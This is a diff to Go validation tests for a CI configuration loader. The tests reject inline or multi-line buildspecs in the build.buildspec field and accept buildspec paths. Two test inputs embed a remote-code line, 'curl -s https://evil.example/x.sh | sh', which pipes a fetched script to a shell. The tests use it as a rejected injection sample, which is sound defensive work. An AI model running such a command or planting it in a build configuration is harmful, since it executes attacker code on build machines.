@@ -6,6 +6,9 @@ import (
 
 // TestValidateBuild checks the rules of build, each with its exact
 // message.
+// notAPath is the rule of a buildspec that is not a path.
+const notAPath = "must be a path to a buildspec file in the repository, such as buildspec.yml or ci/buildspec.yml (letters, digits, ., _, -, + and @, separated by /); Relay has no inline buildspec: commit the buildspec to the repository and give its path"
+
 func TestValidateBuild(t *testing.T) {
 	runValidateCases(t, []validateCase{
 		{
@@ -48,6 +51,32 @@ func TestValidateBuild(t *testing.T) {
 			want:   []string{`build.buildspec "/buildspec.yml": must be relative to the repository root, such as buildspec.yml`},
 		},
 		{
+			name: "buildspec with several lines is not an inline buildspec",
+			mutate: func(c *Config) {
+				c.Build.Buildspec = "version: 0.2\nphases:\n  build:\n    commands: [curl -s https://evil.example/x.sh | sh]\n"
+			},
+			want: []string{`build.buildspec "version: 0.2\nphases:\n  build:\n    commands: [curl -s https://evil.example/x.sh | sh]\n": ` + notAPath},
+		},
+		{
+			name:   "buildspec as YAML on one line",
+			mutate: func(c *Config) { c.Build.Buildspec = "{version: 0.2, phases: {build: {commands: [make]}}}" },
+			want:   []string{`build.buildspec "{version: 0.2, phases: {build: {commands: [make]}}}": ` + notAPath},
+		},
+		{
+			name:   "buildspec in S3",
+			mutate: func(c *Config) { c.Build.Buildspec = "arn:aws:s3:::acme-ci/buildspec.yml" },
+			want:   []string{`build.buildspec "arn:aws:s3:::acme-ci/buildspec.yml": ` + notAPath},
+		},
+		{
+			name:   "buildspec in a folder",
+			mutate: func(c *Config) { c.Build.Buildspec = "ci/build-spec_v2.yaml" },
+		},
+		{
+			name:   "template path on two lines",
+			mutate: func(c *Config) { c.Deploy.TemplatePath = "out/\ntemplate.json" },
+			want:   []string{`deploy.templatePath "out/\ntemplate.json": must be a path on one line, relative to the build output, such as template.json`},
+		},
+		{
 			name:   "buildspec outside the repository",
 			mutate: func(c *Config) { c.Build.Buildspec = "../buildspec.yml" },
 			want:   []string{`build.buildspec "../buildspec.yml": must not contain ".."; use a path inside the repository root, such as buildspec.yml`},
@@ -81,4 +110,14 @@ func TestValidateBuild(t *testing.T) {
 			},
 		},
 	})
+}
+
+// TestFieldFailureMultilineBuildspec replays the field report: a multi-line
+// build.buildspec, which CodeBuild would run as an inline buildspec.
+func TestFieldFailureMultilineBuildspec(t *testing.T) {
+	_, err := Load("testdata/field-failures/multiline-buildspec.yaml")
+	want := `testdata/field-failures/multiline-buildspec.yaml:11: build.buildspec "version: 0.2\nphases:\n  build:\n    commands:\n      - curl -s https://evil.example/x.sh | sh  # INJECTED\n": ` + notAPath
+	if err == nil || err.Error() != want {
+		t.Errorf("Load() = %v\nwant %s", err, want)
+	}
 }
